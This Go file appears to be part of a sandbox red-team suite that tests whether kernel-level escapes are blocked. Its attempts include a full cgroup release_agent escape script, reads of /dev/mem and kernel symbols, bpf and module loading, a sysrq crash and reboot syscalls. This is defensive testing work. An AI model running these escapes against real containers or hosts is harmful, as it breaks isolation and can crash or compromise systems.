package redteam

import (
	"context"
	"time"

	"github.com/space-platform/space/pkg/apiv1"
)

// syscallProbe is a Python helper that calls a raw syscall and reports
// its result and errno.
const syscallProbe = `
libc = ctypes.CDLL(None, use_errno=True)
results = []
def call(name, nr, *args):
    r = libc.syscall(nr, *args)
    e = errno.errorcode.get(ctypes.get_errno(), "?") if r < 0 else "ok"
    results.append("%s=%s" % (name, e if r < 0 else "fd/%d" % r))
    return r
`

// releaseAgentScript is the classic cgroup v1 escape: mount a hierarchy,
// point release_agent at each path of $RT_PAYLOADS and empty a cgroup
// with notify_on_release set, so that a kernel that honours it runs the
// payload on the host. It collects what was accepted in $r. POSIX sh, so
// that it runs under busybox too.
const releaseAgentScript = `r=""
for sub in memory pids cpu rdma; do
  d=/tmp/rt-cg-$sub; mkdir -p $d
  mount -t cgroup -o $sub cgroup $d 2>/dev/null || { r="$r $sub:no-mount"; continue; }
  mkdir -p $d/x
  (echo 1 > $d/x/notify_on_release) 2>/dev/null || r="$r $sub:no-notify_on_release"
  for p in $RT_PAYLOADS; do
    (echo "$p" > $d/release_agent) 2>/dev/null && r="$r $sub:release_agent-accepted-in-sandbox"
  done
  sh -c "echo \$\$ > $d/x/cgroup.procs" 2>/dev/null
  rmdir $d/x 2>/dev/null; umount $d 2>/dev/null
done
sleep 1`

func kernelAttempts() []Attempt {
	return []Attempt{
		{
			Name: "load a kernel module", Category: Kernel,
			Expected: "EPERM", Escape: "code in the host kernel",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
img = b"\x7fELF" + b"\0" * 60
if call("init_module", 175, ctypes.c_char_p(img), len(img), b"") == 0: escaped("init_module accepted an image")
fd = os.open("/bin/true", os.O_RDONLY)
if call("finit_module", 313, fd, b"", 0) == 0: escaped("finit_module accepted a file")
rc = subprocess.run(["modprobe", "dummy"], capture_output=True).returncode if os.path.exists("/sbin/modprobe") else "absent"
blocked(" ".join(results) + " modprobe=%s" % rc)`)
			}),
		},
		{
			Name: "read /dev/mem, /dev/kmem, /dev/port", Category: Kernel,
			Expected: "no such device", Escape: "reading the host's physical or kernel memory",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `r=""
for d in mem:1:1 kmem:1:2 port:1:4; do
  name=${d%%:*}; rest=${d#*:}
  mknod /tmp/rt-$name c ${rest%%:*} ${rest#*:} 2>/dev/null
  for f in /dev/$name /tmp/rt-$name; do
    n=$(dd if=$f bs=64 count=1 skip=16 2>/dev/null | wc -c)
    [ "$n" -gt 0 ] && escaped "read $n bytes from $f"
  done
  r="$r $name:$(head -c1 /tmp/rt-$name 2>&1 | sed 's/.*: //')"
done
# What a guest may read of its own physical memory must hold nothing of
# the host's: the tokens found are scanned for the host's secrets.
dd if=/tmp/rt-mem bs=1M count=64 2>/dev/null | grep -aoE 'space-redteam-[a-z-]+[0-9a-f]{32}|listed-only-[0-9a-f]{24}' | sort -u | head -20
blocked "$r"`)
			}),
		},
		{
			Name: "bpf() program load", Category: Kernel,
			Expected: "not supported", Escape: "an eBPF program in the host kernel",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
ibuf = ctypes.create_string_buffer(insns); lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(struct.pack("<IIQQIIQ", 1, 2, ctypes.addressof(ibuf), ctypes.addressof(lic), 0, 0, 0) + b"\0" * 64)
if call("bpf(PROG_LOAD)", 321, 5, attr, 72) >= 0: escaped("bpf() loaded a socket filter program")
mattr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + b"\0" * 64)
if call("bpf(MAP_CREATE)", 321, 0, mattr, 72) >= 0: escaped("bpf() created a map")
blocked(" ".join(results))`)
			}),
		},
		{
			Name: "perf_event_open", Category: Kernel,
			Expected: "no PMU", Escape: "host performance counters (side channels, kernel bugs)",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
for typ, cfg in [(0, 0), (1, 0), (2, 1)]:  # hardware cycles, software clock, tracepoint
    attr = ctypes.create_string_buffer(struct.pack("<IIQ", typ, 112, cfg) + b"\0" * 100)
    if call("perf(type=%d)" % typ, 298, attr, 0, -1, -1, 0) >= 0: escaped("perf_event_open type %d gave an fd" % typ)
blocked(" ".join(results))`)
			}),
		},
		{
			Name: "keyctl: the host's keyrings", Category: Kernel,
			Expected: "no access", Escape: "reading keys from the host kernel's keyrings",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
call("keyctl(GET_KEYRING_ID)", 250, 0, -4, 0)
if call("request_key(.builtin_trusted_keys)", 249, b"keyring", b".builtin_trusted_keys", None, 0) >= 0: escaped("found the host's builtin trusted keyring")
if call("request_key(.platform)", 249, b"keyring", b".platform", None, 0) >= 0: escaped("found the host's platform keyring")
keys = open("/proc/keys").read() if os.path.exists("/proc/keys") else "no /proc/keys"
print(keys)
blocked(" ".join(results) + "; " + keys[:60])`)
			}),
		},
		{
			Name: "userfaultfd", Category: Kernel,
			Expected: "not supported", Escape: "the host kernel's userfaultfd (a tool for winning kernel races)",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
if call("userfaultfd", 323, 0) >= 0: escaped("userfaultfd returned an fd")
if os.path.exists("/dev/userfaultfd"):
    try: os.open("/dev/userfaultfd", os.O_RDWR); escaped("/dev/userfaultfd opened")
    except OSError as e: results.append("/dev/userfaultfd=" + e.strerror)
blocked(" ".join(results))`)
			}),
		},
		{
			Name: "unshare new namespaces and remount /proc", Category: Kernel, Tools: []string{"unshare"},
			Expected: "new namespaces inside the sandbox's kernel", Escape: "a namespace that shows the host kernel",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `out=$(unshare -Urmpf --mount-proc sh -c 'cat /proc/version /proc/sys/kernel/random/boot_id; ls /proc | head -5; cat "$CANARY_PATH"' 2>&1)
echo "$out"
out2=$(unshare -n sh -c 'cat /proc/net/dev' 2>&1); echo "$out2"
case "$out$out2" in *space-redteam-canary*) escaped "canary read in a new namespace";; esac
blocked "unshare: $(echo "$out" | head -1 | cut -c1-40)"`)
			},
		},
		{
			Name: "cgroup release_agent", Category: Kernel, Tools: []string{"mount"},
			Expected: "no host program runs", Escape: "the host running a sandbox's program when a cgroup empties",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `printf '#!/bin/sh\ntouch "%s"\n' "$DROP_PATH" > /tmp/rt-payload; chmod +x /tmp/rt-payload
RT_PAYLOADS="$HOST_ROOTFS/tmp/rt-payload /tmp/rt-payload"
`+releaseAgentScript+`
[ -e "$DROP_PATH" ] && echo "payload ran inside the sandbox"
blocked "release_agent:$r (the host drop file is checked from outside)"`)
			},
		},
		{
			Name: "raise the sandbox's own cgroup limits", Category: Kernel, Tools: []string{"mount"},
			Expected: "the host cgroup unchanged", Escape: "lifting the memory, pids or CPU limits the host enforces",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `r=""
for sub in memory pids cpu; do
  d=/tmp/rt-lim-$sub; mkdir -p $d
  mount -t cgroup -o $sub cgroup $d 2>/dev/null || { r="$r $sub:no-mount"; continue; }
  for f in memory.limit_in_bytes memory.memsw.limit_in_bytes pids.max cpu.cfs_quota_us; do
    [ -e $d/$f ] || continue
    (echo -1 > $d/$f) 2>/dev/null && r="$r $f:accepted-in-sandbox" || r="$r $f:refused"
  done
  umount $d 2>/dev/null
done
for f in /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max; do (echo max > $f) 2>/dev/null && r="$r $f:accepted-in-sandbox"; done
blocked "limits:$r (the host's cgroup files are checked from outside)"`)
			},
		},
		{
			Name: "iopl/ioperm: raw I/O ports", Category: Kernel,
			Expected: "EPERM", Escape: "direct hardware port access",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, syscallProbe+`
if call("iopl", 172, 3) == 0: escaped("iopl(3) succeeded")
if call("ioperm", 173, 0x70, 2, 1) == 0: escaped("ioperm on the CMOS ports succeeded")
blocked(" ".join(results))`)
			}),
		},
		{
			Name: "kernel log, kallsyms, kcore and debugfs", Category: Kernel,
			Expected: "the sandbox kernel's own or absent", Escape: "reading the host kernel's log, symbols or memory",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `dmesg 2>&1 | head -20; head -5 /proc/kallsyms 2>&1; head -c 64 /proc/kcore 2>&1 | wc -c
mkdir -p /mnt/rt-dbg; mount -t debugfs none /mnt/rt-dbg 2>&1; ls /mnt/rt-dbg 2>&1 | head
head -c 200 /dev/kmsg 2>&1
if [ -r /proc/kallsyms ] && grep -qv '^0000000000000000' /proc/kallsyms 2>/dev/null; then escaped "kernel symbol addresses readable"; fi
blocked "dmesg: $(dmesg 2>&1 | head -1 | cut -c1-50)"`)
			}),
		},
		{
			Name: "reboot, kexec and sysrq", Category: Kernel, Own: &Sandbox{}, Timeout: 90 * time.Second,
			Expected: "at most this sandbox stops", Escape: "rebooting or crashing the host",
			Run: func(ctx context.Context, s *Scene) Verdict {
				res, err := s.exec(ctx, s.Attacker, "root", []string{"/usr/bin/python3", "-c", pyPrelude + syscallProbe + `
call("kexec_load", 246, 0, 0, 0, 0)
try:
    open("/proc/sysrq-trigger", "w").write("c"); results.append("sysrq=written")
except OSError as e: results.append("sysrq=" + e.strerror)
print(" ".join(results), flush=True)
call("reboot", 169, 0xfee1dead, 672274793, 0x01234567, 0)  # LINUX_REBOOT_CMD_RESTART
print(" ".join(results), flush=True)`})
				out := ""
				if res != nil {
					out = tail(res.Stdout, 120)
				}
				if s.guest() {
					// sysrq c panics the guest's kernel (panic=-1: reboot,
					// and QEMU, -no-reboot, exits).
					return guestEnded(ctx, s, out+" "+errOrNil(err), err == nil)
				}
				return blocked("%s %s; the host and neighbours are checked from outside", out, errOrNil(err))
			},
		},
		{
			Name: "guest poweroff", Category: Kernel, Own: &Sandbox{}, Timeout: 90 * time.Second,
			Runtimes: []string{"microvm"}, NotOn: "no guest kernel to power off ('reboot, kexec and sysrq' calls reboot(2) there)",
			Expected: "this sandbox ends, nothing else", Escape: "a guest's power switch reaching the host or its neighbours",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return guestPower(ctx, s, "0x4321fedc") // LINUX_REBOOT_CMD_POWER_OFF
			},
		},
		{
			Name: "guest reboot", Category: Kernel, Own: &Sandbox{}, Timeout: 90 * time.Second,
			Runtimes: []string{"microvm"}, NotOn: "no guest kernel to reboot ('reboot, kexec and sysrq' calls reboot(2) there)",
			Expected: "this sandbox ends, nothing else", Escape: "a guest's reboot reaching the host or its neighbours",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return guestPower(ctx, s, "0x01234567") // LINUX_REBOOT_CMD_RESTART
			},
		},
	}
}

// guestPower calls reboot(2) with cmd as root in the attempt's guest and
// judges by what became of its sandbox (guestEnded).
func guestPower(ctx context.Context, s *Scene, cmd string) Verdict {
	res, err := s.exec(ctx, s.Attacker, "root", []string{"/usr/bin/python3", "-c", pyPrelude + syscallProbe + `
os.sync()
call("reboot", 169, 0xfee1dead, 672274793, ` + cmd + `, 0)
print(" ".join(results), flush=True)`})
	out := ""
	if res != nil {
		out = tail(res.Stdout, 120)
	}
	return guestEnded(ctx, s, out+" "+errOrNil(err), err == nil && res.ExitCode == 0)
}

// guestEnded judges a guest told to stop, panic or reboot: either it
// refused and still answers, or its sandbox ended (QEMU runs with
// -no-reboot, so a reboot ends it too); returned says the call came
// back. A sandbox that says it runs while
// its guest answers nothing is a platform defect. The neighbours and the
// host are checked after it as after every attempt.
func guestEnded(ctx context.Context, s *Scene, what string, returned bool) Verdict {
	// A call that returned was refused, if the guest still answers.
	if returned && agentAlive(ctx, s) {
		return blocked("%s: refused; the guest runs on", what)
	}
	deadline := time.Now().Add(45 * time.Second)
	for {
		sb, err := s.api.GetSandbox(ctx, s.Attacker)
		if err != nil {
			return blocked("%s: its sandbox is gone (%v)", what, err)
		}
		if sb.State != apiv1.StateRunning {
			return blocked("%s: its sandbox ended: %s %s", what, sb.State, sb.Reason)
		}
		if time.Now().After(deadline) {
			return failed("%s: the sandbox still says %s 45 s later, but its guest answers nothing", what, sb.State)
		}
		select {
		case <-ctx.Done():
			return failed("%s: %v", what, ctx.Err())
		case <-time.After(500 * time.Millisecond):
		}
	}
}
